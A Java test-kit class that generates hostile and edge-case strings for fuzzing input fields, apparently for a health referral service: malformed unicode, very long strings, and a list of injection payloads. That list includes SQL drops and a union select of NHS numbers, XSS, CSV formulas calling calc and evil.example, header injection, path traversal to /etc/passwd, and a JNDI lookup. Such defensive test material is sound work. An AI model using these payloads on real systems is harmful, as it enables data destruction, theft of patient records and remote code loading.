package org.pathway.testkit.hostile;

import java.util.List;

/**
 * Text a hostile or careless client may put in any string field: unicode edge cases (NUL, lone
 * surrogates, bidi overrides, combining marks, emoji, non-characters), injection strings (SQL,
 * HTML/script, CSV formulas, JSON and header injection, path traversal, templates) and very long
 * strings. Each value is labelled with its category so a sweep can report what it tried.
 */
public final class HostileStrings {

    /** A generated string and what kind of hostility it carries. */
    public record Labelled(String category, String value) {
    }

    static final List<String> UNICODE = List.of(
            "\u0000", "a\u0000b", "\u0000\u0000\u0000",
            "\uD800", "x\uDC00y", "\uDBFF", "\uDFFF\uD800",
            "\u202Eevil\u202C", "\u200F\u200E", "\u061Cname", "\u2067isolate\u2069",
            "e" + "\u0301".repeat(50), "Z\u0336\u0337\u0338\u0334\u0335a\u0351\u0352l\u0353\u0354g\u0355o",
            "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66", "\uD83C\uDDEC\uD83C\uDDE7",
            "\uD83D\uDE00\uD83C\uDFFD", "\u200B", "\uFEFF", "\u2060\u2060", "\uFFFF", "\uFFFE", "\uDBFF\uDFFF",
            "\u0007\u0008\u001B[31mred", "\r\n", "\t", " ", "\u00A0", "\u3000", "\u2028\u2029",
            "\u0130\u0131\u00DF\uFB03", "\u1E9E", "\u0627\u0644\u0639\u0631\u0628\u064A\u0629", "\u05E9\u05DC\u05D5\u05DD",
            "\u4E2D\u6587", "\uFF21\uFF22\uFF23", "\u00E9\u0065\u0301");

    static final List<String> INJECTION = List.of(
            "' OR '1'='1", "'; DROP TABLE referral; --", "1; select pg_sleep(10)--", "\\'; --",
            "' union select nhs_number from referral --", "$$; drop schema public cascade; $$",
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
            "javascript:alert(1)", "=cmd|' /C calc'!A0", "+SUM(1,1)", "-2+3", "@SUM(1,1)",
            "=HYPERLINK(\"http://evil.example\",\"x\")", "\t=1+1", "\",\"status\":\"ACCEPTED", "\"}", "{\"$ne\":null}",
            "x\r\nSet-Cookie: a=b", "%0d%0aLocation: http://evil.example", "../../../etc/passwd",
            "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "/sites/cardiff-vale/referrals", "${jndi:ldap://evil/a}",
            "{{7*7}}", "#{7*7}", "%s%s%s%n", "\\u0000", "NaN", "Infinity", "-0", "null", "true", "[]", "{}");

    private HostileStrings() {
    }

    /** Unicode edge cases, sometimes wrapped in ordinary text. */
    public static Gen<String> unicode() {
        return wrapped(Gen.of(UNICODE));
    }

    public static Gen<String> injection() {
        return wrapped(Gen.of(INJECTION));
    }

    /** 1,000 to 200,000 characters, of one character or an emoji. */
    public static Gen<String> veryLong() {
        Gen<String> unit = Gen.of("a", "\u00E9", "\uD83D\uDE00", "e\u0301", "\u202E", "<", "0");
        Gen<Integer> length = Gen.integers(1_000, 200_000);
        return random -> {
            String u = unit.next(random);
            return u.repeat(length.next(random) / u.length());
        };
    }

    /** Any UTF-16 code units, surrogates and controls included. */
    public static Gen<String> anyChars() {
        return Gen.strings(Gen.chars(Character.MIN_VALUE, Character.MAX_VALUE), 0, 40);
    }

    /** Every category, labelled. */
    public static Gen<Labelled> labelled() {
        return Gen.frequency(
                Gen.weighted(4, unicode().map(s -> new Labelled("unicode", s))),
                Gen.weighted(4, injection().map(s -> new Labelled("injection", s))),
                Gen.weighted(1, veryLong().map(s -> new Labelled("very-long", s))),
                Gen.weighted(2, anyChars().map(s -> new Labelled("any-chars", s))));
    }

    private static Gen<String> wrapped(Gen<String> core) {
        Gen<String> affix = Gen.of("", "", "Sam", "anxiety", " ", "2026-11-20");
        return random -> affix.next(random) + core.next(random) + affix.next(random);
    }
}
